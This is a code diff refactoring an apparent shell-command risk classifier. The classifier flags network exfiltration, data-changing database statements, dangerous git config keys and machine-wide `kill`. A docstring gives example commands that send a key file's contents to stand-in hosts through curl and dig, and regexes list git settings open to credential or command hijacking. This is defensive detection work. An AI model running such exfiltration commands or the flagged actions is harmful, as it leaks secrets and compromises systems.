@@ -20,10 +20,12 @@ _GIT_SETTING = re.compile(
     r"(?i)(alias\.|core\.(hookspath|pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|.*\.(command|cmd|helper|program|textconv|process)"
     r"|include|credential|url\.|http\.proxy|remote\..*\.url|diff\.external|sequence\.editor|protocol)"
 )
+_GIT_READS = {"--get", "--list", "-l", "--get-all"}
 _RESOLVERS = frozenset(["ping", "ping6", "dig", "host", "nslookup", "whois"])
 _READS = {"GET", "HEAD", "OPTIONS"}
 _ASKS_NOTHING = frozenset(["-l", "--list", "--version", "--help", "-V", "-version"])
 _REDIS_LOOKS = ("--scan", "--stat", "--bigkeys", "--memkeys", "--latency")
+_SHELL_LINE = re.compile(r"(?m)^\s*(?:\\!|\.(?:shell|system))\s+(.*)")
 _IMAGE = re.compile(r"/dev/null|test|tmp|temp|dummy|swap|\.(img|iso|raw|bin|dat)$")
 
 
@@ -45,14 +47,13 @@ def _asks(state: State, known: Entry, args: Args, command: Command) -> None:
 
 def _asks_statements(state: State, known: Entry, args: Args, command: Command) -> None:
     texts = list(_statements(state, known, args, command))
-    for text in texts:
-        for line in re.findall(r"(?m)^\s*(?:\\!|\.(?:shell|system))\s+(.*)", text or ""):
-            state.script(line)
+    for line in _SHELL_LINE.findall("\n".join(filter(None, texts))):
+        state.script(line)
+    waits = not texts and "verbs" not in known.more
     is_mongo = known.more["asks"] == "mongo"
     judge = statements.changes_mongo if is_mongo else statements.changes_sql
-    changes = not texts or any(text is None or judge(text) for text in texts)
-    is_other_verb = "verbs" in known.more and not texts
-    if changes and not is_other_verb and not statements.only_in_memory(_values(args), texts):
+    changes = waits or any(text is None or judge(text) for text in texts)
+    if changes and not statements.only_in_memory(_values(args), texts):
         state.add("delete", known.name, "may change or delete data", is_local=False)
 
 
@@ -67,13 +68,12 @@ def _asks_redis(state: State, known: Entry, values: list[str | None], command: C
 def _statements(state: State, known: Entry, args: Args, command: Command) -> Iterator[str | None]:
     options = known.listed("statement")
     plain = [arg.text for arg in operands_of(known, args[1:])]
-    for option in (each for each in options if each.startswith("-")):
-        yield from texts_of(known, option, args)
-    yield from plain[1:] if "operands" in options else []
-    if "query" in options and "query" in _values(args):
-        yield from plain[-1:]
+    for option in options:
+        yield from texts_of(known, option, args) if option.startswith("-") else ()
+    yield from plain[1:] if "operands" in options else ()
+    yield from plain[-1:] if "query" in options and "query" in _values(args) else ()
     for option in known.listed("script"):
-        yield from (None for _ in texts_of(known, option, args))
+        yield from [None] * len(texts_of(known, option, args))
     if has_input(command):
         yield input_of(state, command)
 
@@ -91,14 +91,18 @@ def _methods(state: State, known: Entry, args: Args, command: Command) -> None:
 
 def _fetches(state: State, known: Entry, args: Args, command: Command) -> None:
     """`curl "http://x/$(cat key)"`, `dig $(cat key).example.org`: what a command prints is sent."""
-    asked = known.listed("fetches")
-    if asked != ["all"] and not set(asked) & {arg.text for arg in args[1:]}:
+    asked, given = known.listed("fetches"), [arg.text for arg in args[1:]]
+    if asked != ["all"] and set(asked).isdisjoint(given):
         return
-    has_substitution = known.name in _RESOLVERS and _substitutes(command)
-    if has_substitution or any(arg.has_output or arg.stream for arg in args[1:]):
+    is_carried = any(arg.has_output or arg.stream for arg in args[1:])
+    if is_carried or (known.name in _RESOLVERS and _substitutes(command)):
         state.add("send", known.name, "what a command prints", is_local=False)
+    _proxied(state, known, args)
+
+
+def _proxied(state: State, known: Entry, args: Args) -> None:
     given = {arg.start for arg in args}
-    for option in (each for each in known.listed("proxies") if each in given):
+    for option in given.intersection(known.listed("proxies")):
         value = next(iter(texts_of(known, option, args)), None)
         if option != "-e" or "proxy" in (value or "proxy"):
             state.add("send", known.name, f"{option}: what is asked goes there", is_local=False)
@@ -129,12 +133,16 @@ def git(state: State, known: Entry, args: Args, command: Command) -> None:
         if option in ("-c", "--config-env") and _GIT_SETTING.match(key):
             _git_program(state, text)
     plain = [value or "" for value in operands(known, _values(args))]
-    is_read = bool({"--get", "--list", "-l", "--get-all"} & set(values))
-    if plain[:1] == ["config"] and len(plain) > 2 and not is_read:
-        key = plain[2] if plain[1] in ("set", "unset") else plain[1]
-        is_wide = bool({"--global", "--system"} & set(values))
-        if is_wide or _GIT_SETTING.match(key):
-            state.add("system", "git", f"config {key}", is_local=False)
+    if plain[:1] == ["config"] and _GIT_READS.isdisjoint(values):
+        _git_config(state, plain[1:], is_wide=not {"--global", "--system"}.isdisjoint(values))
+
+
+def _git_config(state: State, plain: list[str], *, is_wide: bool) -> None:
+    """`git config KEY VALUE`, `git config set KEY VALUE`."""
+    words = plain[1:] if plain[:1] in (["set"], ["unset"]) else plain
+    sets = len(plain) > 1 and bool(words)
+    if sets and (is_wide or _GIT_SETTING.match(words[0])):
+        state.add("system", "git", f"config {words[0]}", is_local=False)
 
 
 def _git_program(state: State, text: str) -> None:
@@ -148,8 +156,8 @@ def _jobs(state: State, known: Entry, args: Args, command: Command) -> None:
     """`kill %1`, `kill $!`: jobs of the script alone. `kill 1`, `kill -1`: the machine."""
     named = [arg.text or "" for arg in operands_of(known, args[1:])]
     if named and all(value.startswith("%") for value in named):
-        state.effects[:] = [each for each in state.effects if each.command != "kill"]
-    if named == ["1"] or [arg.text for arg in args[-1:]] == ["-1"]:
+        state.forget("kill")
+    if named == ["1"] or args[-1].text == "-1":
         state.add("catastrophic", "kill", "stops every process", is_local=False)
 
 
